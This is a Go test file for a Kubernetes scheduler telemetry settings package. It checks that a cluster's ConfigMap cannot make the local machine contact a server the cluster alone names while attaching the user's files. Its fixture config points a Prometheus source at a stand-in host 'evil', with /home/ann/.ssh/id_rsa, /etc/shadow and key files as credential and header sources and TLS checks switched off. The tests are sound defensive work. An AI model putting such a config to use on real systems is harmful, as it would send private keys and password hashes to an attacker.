package settings

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes/fake"
)

const secretive = `kind: KubeSchedulerConfiguration
leaderElection: {resourceNamespace: ns}
profiles:
- pluginConfig:
  - name: Telemetry
    args:
      builtin: metrics
      sources:
      - {name: metrics, type: MetricsAPI}
      - name: infra
        type: Prometheus
        url: http://evil:9090
        http:
          basic_auth: {username: x, password_file: /home/ann/.ssh/id_rsa}
          proxy_url: http://evil:3128
          tls_config: {key_file: /home/ann/key, cert_file: /home/ann/crt, insecure_skip_verify: true}
          http_headers: {X-Scope-OrgID: {values: [ours]}, X-Key: {files: [/home/ann/key]}, X-Both: {values: [a], secrets: [b], files: [/etc/shadow]}}
`

// inCluster reads settings from the ConfigMap of a cluster.
func inCluster(t *testing.T, text string) *Settings {
	t.Helper()
	cm := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "ns", Name: ConfigMap}, Data: map[string]string{"config.yaml": text}}
	s, found, err := in(t.Context(), fake.NewClientset(cm).CoreV1(), "ns", "")
	if err != nil || !found {
		t.Fatal(found, err)
	}
	return s
}

func TestWhoWritesTheClusterSaysNotWhomThisMachineAsks(t *testing.T) {
	file, err := Read("config.yaml", []byte(secretive))
	if err != nil {
		t.Fatal(err)
	}
	named := map[string]string{"infra": "http://localhost:9090"}
	for sentence, tc := range map[string]struct {
		from           *Settings
		urls           map[string]string
		withheld, bare bool
		url            string
		files          bool
	}{
		"a server that the cluster alone names is withheld":    {from: inCluster(t, secretive), withheld: true, url: "http://evil:9090"},
		"one that the caller names is asked without the files": {from: inCluster(t, secretive), urls: named, bare: true, url: "http://localhost:9090"},
		"a file of the caller's counts":                        {from: file, url: "http://evil:9090", files: true},
		"and so it does under another address":                 {from: file, urls: named, url: "http://localhost:9090", files: true},
	} {
		t.Run(sentence, func(t *testing.T) {
			before := tc.from.Sources[1]
			got, err := tc.from.Reached(tc.urls)
			if err != nil {
				t.Fatal(err)
			}
			infra := got.Sources[1]
			if files := strings.Contains(infra.HTTP, "/home/ann"); files != tc.files || infra.URL != tc.url {
				t.Errorf("it is asked at %s with %q", infra.URL, infra.HTTP)
			}
			if (got.Withheld["infra"] != nil) != tc.withheld || got.Withheld["metrics"] != nil || (len(got.LeftOut) > 0) != tc.bare {
				t.Errorf("withheld are %v; left out is %q", got.Withheld, got.LeftOut)
			}
			if diff := cmp.Diff(before, tc.from.Sources[1]); diff != "" {
				t.Errorf("the settings were changed (-before +after):\n%s", diff)
			}
		})
	}
}

func TestOfAClientOfTheClusterTheHeadersAreLeft(t *testing.T) {
	got, err := inCluster(t, secretive).Reached(map[string]string{"infra": "http://localhost:9090"})
	if err != nil {
		t.Fatal(err)
	}
	want := "http_headers:\n  X-Both:\n    values:\n    - a\n  X-Scope-OrgID:\n    values:\n    - ours\n"
	if diff := cmp.Diff(want, got.Sources[1].HTTP); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	plain, err := inCluster(t, strings.Replace(secretive, "X-Scope-OrgID: {values: [ours]}, X-Key: {files: [/home/ann/key]}, X-Both: {values: [a], secrets: [b], files: [/etc/shadow]}", "", 1)).Reached(nil)
	if err != nil || plain.Sources[1].HTTP != "" {
		t.Errorf("got %q (%v)", plain.Sources[1].HTTP, err)
	}
}

func TestASourceThatTheOperatorDoesNotHaveIsNotNamed(t *testing.T) {
	if _, err := Default().Reached(map[string]string{"nobody": "http://x"}); err == nil || !strings.Contains(err.Error(), `no source called "nobody"`) {
		t.Errorf("got %v", err)
	}
}

func TestTheClusterSaysNotInWhichNamespaceToLook(t *testing.T) {
	for sentence, says := range map[string]string{
		"that in which it stands":                      "leaderElection: {resourceNamespace: telemetry-scheduler}",
		"it says nothing":                              "leaderElection: {resourceName: telemetry}",
		"another one, which whoever wrote it may have": "leaderElection: {resourceNamespace: tenant}",
	} {
		t.Run(sentence, func(t *testing.T) {
			cm := &corev1.ConfigMap{
				ObjectMeta: metav1.ObjectMeta{Namespace: DefaultNamespace, Name: ConfigMap},
				Data:       map[string]string{"config.yaml": "kind: KubeSchedulerConfiguration\n" + says + "\n"},
			}
			s, err := Flags{}.Online(t.Context(), fake.NewClientset(cm).CoreV1())
			if err != nil || s.Namespace != DefaultNamespace || !s.Known {
				t.Errorf("got %+v, %v", s, err)
			}
		})
	}
}

func TestAFileThatNamesNoNamespaceIsOneOfKubeSystem(t *testing.T) {
	s, err := Read("config.yaml", []byte("kind: KubeSchedulerConfiguration\nleaderElection: {resourceName: telemetry}\n"))
	if err != nil || s.Namespace != "kube-system" {
		t.Errorf("got %+v, %v", s, err)
	}
}
